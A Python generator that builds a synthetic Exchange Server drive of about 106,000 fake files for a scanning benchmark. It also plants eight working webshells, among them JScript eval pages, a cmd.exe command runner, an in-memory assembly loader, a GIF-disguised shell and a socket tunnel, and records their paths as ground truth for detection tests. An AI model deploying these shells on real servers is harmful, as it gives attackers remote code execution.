#!/usr/bin/env python3
"""Generates an Exchange-like system drive for bench/walk.

    gen.py OUT [--scale S] [--seed N]

At scale 1: about 106,000 files and 2.7 GB: Exchange's Bin and role folders
full of DLLs, ClientAccess and FrontEnd web folders full of pages, scripts,
styles and images, Temporary ASP.NET Files, Exchange and IIS logs, a
Windows-like system folder and ProgramData.  Binary files are slices of a
random pool behind an MZ header; pages and logs are generated text.  It
also plants webshells (written here, each imitating one family) at the
places attackers used; their paths go to OUT/../planted.txt.
Nothing here is copied from any sample."""
import argparse
import os
import random

EX = "Program Files/Microsoft/Exchange Server/V15"
TEMP = "Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files"
WORDS = ("mailbox owa ecp calendar contact message folder attachment search options "
         "settings user account server domain policy transport queue database copy "
         "certificate virtual directory autodiscover mapi sync address book").split()


class Gen:
    def __init__(self, out, scale, seed):
        self.out = out
        self.scale = scale
        self.rnd = random.Random(seed)
        self.pool = self.rnd.randbytes(8 << 20)
        self.files = 0
        self.bytes = 0

    def n(self, count):
        return max(1, int(count * self.scale))

    def write(self, rel, data):
        path = os.path.join(self.out, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(data)
        self.files += 1
        self.bytes += len(data)

    def binary(self, size):
        size = max(size, 64)
        off = self.rnd.randrange(0, len(self.pool) - size) if size < len(self.pool) else 0
        body = self.pool[off:off + size - 64]
        strings = b"\x00".join(self.rnd.choice(WORDS).encode() for _ in range(8))
        return (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + strings)[:64].ljust(64, b"\x00") + body

    def size(self, mean):
        return max(200, int(self.rnd.expovariate(1.0 / mean)))

    def text(self, size, line):
        parts, n = [], 0
        while n < size:
            s = line(self.rnd)
            parts.append(s)
            n += len(s)
        return "".join(parts).encode()[:size]

    def page(self, size):
        head = ('<%@ Page Language="C#" AutoEventWireup="true" Inherits="Microsoft.Exchange.'
                + self.rnd.choice(WORDS).title() + 'Page" %>\n<html><body>\n')
        return head.encode() + self.text(size, lambda r: '<div class="%s">%s</div>\n' % (
            r.choice(WORDS), " ".join(r.choice(WORDS) for _ in range(8))))

    def script(self, size):
        return self.text(size, lambda r: "function %s%d(a){return a.%s+%d;}\n" % (
            r.choice(WORDS), r.randrange(1000), r.choice(WORDS), r.randrange(100)))

    def style(self, size):
        return self.text(size, lambda r: ".%s-%d{margin:%dpx;color:#%06x}\n" % (
            r.choice(WORDS), r.randrange(100), r.randrange(20), r.randrange(1 << 24)))

    def log(self, size):
        return b"#Fields: DateTime,RequestId,Method,Uri,Status,AnchorMailbox\n" + self.text(
            size, lambda r: "2026-01-%02dT%02d:%02d:00Z,%08x,GET,/%s/%s,200,%s@lab.example\n" % (
                r.randrange(1, 29), r.randrange(24), r.randrange(60), r.randrange(1 << 32),
                r.choice(WORDS), r.choice(WORDS), r.choice(WORDS)))

    def many(self, base, count, kinds):
        for i in range(self.n(count)):
            ext, mean, maker = self.rnd.choice(kinds)
            sub = "%s/%s%d" % (base, self.rnd.choice(WORDS), self.rnd.randrange(40))
            self.write("%s/%s%05d.%s" % (sub, self.rnd.choice(WORDS), i, ext), maker(self.size(mean)))


def plant(g, planted):
    shells = {
        "inetpub/wwwroot/aspnet_client/system_web/errorcheck.aspx":
            b'<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>',
        EX + "/FrontEnd/HttpProxy/owa/auth/Current/themes/resources/signin.aspx":
            b'GIF89a\n<%@ Page Language="Jscript"%><%eval(Request.Item["t"],"unsafe");%>',
        EX + "/FrontEnd/HttpProxy/owa/auth/outlooksync.aspx":
            b'<%@ Page Language="C#"%><%var i=new System.Diagnostics.ProcessStartInfo("cmd.exe","/c "+Request["c"]);'
            b'i.RedirectStandardOutput=true;i.UseShellExecute=false;'
            b'Response.Write(System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd());%>',
        "inetpub/wwwroot/aspnet_client/exportmbx.aspx":
            b"!BDN\x8e\x1f\x00\x00SM" + bytes(500) +
            b'<script language="JScript" runat="server">function Page_Load(){eval(Request["x"],"unsafe");}</script>'
            + bytes(200),
        EX + "/ClientAccess/ecp/DDI/status.ashx":
            b'<%@ WebHandler Language="C#" Class="H" %>\npublic class H : System.Web.IHttpHandler { public void '
            b'ProcessRequest(System.Web.HttpContext c) { byte[] d = System.Convert.FromBase64String(c.Request["k"]); '
            b'if (c.Session["payload"] == null) c.Session["payload"] = typeof(System.Reflection.Assembly)'
            b'.GetMethod("Load", new System.Type[]{typeof(byte[])}).Invoke(null, new object[]{d}); '
            b'object o = ((System.Reflection.Assembly)c.Session["payload"]).CreateInstance("LY"); '
            b'new System.Security.Cryptography.MD5CryptoServiceProvider(); } public bool IsReusable { get { return false; } } }',
        "ProgramData/COM/help.aspx":
            b'<%@ Page Language="Jscript"%><%eval(Request.Form["h"],"unsafe");%>',
        TEMP + "/owa/7f3a2b1c/9d8e7f6a/App_Web_q1w2e3r4.dll":
            b"MZ\x90\x00" + bytes(4000) + b"App_Web_q1w2e3r4\x00get_Request\x00JScriptEvaluate\x00"
            + "/aspnet_client/errorcheck.aspx".encode("utf-16-le") + bytes(3000),
        "inetpub/wwwroot/aspnet_client/system_web/4_0_30319/tunnel.aspx":
            b'<%@ Page Language="C#"%><%@ Import Namespace="System.Net.Sockets"%><% '
            b'string c = Request.Headers["X-CMD"]; if (c == "CONNECT") { var s = new Socket('
            b'AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); s.Connect("10.1.1.1", 3389); '
            b'Response.AddHeader("X-STATUS", "OK"); } else if (c == "FORWARD") { byte[] b = new byte[512]; '
            b'Request.InputStream.Read(b, 0, 512); } else if (c == "DISCONNECT") { } %>',
    }
    for rel, data in shells.items():
        g.write(rel, data)
        planted.append(rel)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("out")
    ap.add_argument("--scale", type=float, default=1.0)
    ap.add_argument("--seed", type=int, default=4)
    a = ap.parse_args()
    g = Gen(a.out, a.scale, a.seed)
    dll = ("dll", 400_000, g.binary)
    small_dll = ("dll", 250_000, g.binary)
    g.many(EX + "/Bin", 2500, [dll])
    g.many(EX + "/Mailbox", 8000, [("dll", 40_000, g.binary), ("xml", 8_000, g.style),
                                   ("ps1", 10_000, g.script)])
    g.many(EX + "/TransportRoles", 7000, [("dll", 40_000, g.binary), ("config", 3_000, g.style),
                                          ("xml", 6_000, g.style)])
    g.many(EX + "/ClientAccess/Owa/prem/15.2.1544.4/scripts", 12000, [("js", 8_000, g.script)])
    g.many(EX + "/ClientAccess/Owa/prem/15.2.1544.4/resources/themes", 9000,
           [("css", 4_000, g.style), ("gif", 3_000, g.binary), ("png", 5_000, g.binary)])
    g.many(EX + "/ClientAccess/ecp", 9000, [("aspx", 5_000, g.page), ("ascx", 3_000, g.page),
                                            ("js", 6_000, g.script), ("resx", 4_000, g.style)])
    g.many(EX + "/ClientAccess/Owa/bin", 200, [small_dll])
    g.many(EX + "/FrontEnd/HttpProxy", 6000, [("aspx", 4_000, g.page), ("js", 6_000, g.script),
                                               ("css", 3_000, g.style), ("config", 2_000, g.style)])
    g.many(EX + "/FrontEnd/HttpProxy/bin", 100, [small_dll])
    g.many(TEMP + "/root", 1500, [("dll", 15_000, g.binary), ("compiled", 500, g.style)])
    g.many("inetpub/wwwroot", 200, [("htm", 2_000, g.page), ("gif", 2_000, g.binary)])
    g.many("inetpub/logs/LogFiles/W3SVC1", 300, [("log", 500_000, g.log)])
    g.many(EX + "/Logging/HttpProxy", 3000, [("LOG", 150_000, g.log)])
    g.many("Windows/System32", 40000, [("dll", 12_000, g.binary), ("mui", 4_000, g.binary),
                                        ("inf", 3_000, g.style), ("xml", 4_000, g.style)])
    g.many("ProgramData/Microsoft", 8000, [("dat", 5_000, g.binary), ("xml", 3_000, g.style)])
    planted = []
    plant(g, planted)
    with open(os.path.join(os.path.dirname(os.path.abspath(a.out)), "planted.txt"), "w") as f:
        f.write("\n".join(planted) + "\n")
    print("generated %d files, %.2f GB, %d planted shells in %s" % (
        g.files, g.bytes / 1e9, len(planted), a.out))


if __name__ == "__main__":
    main()
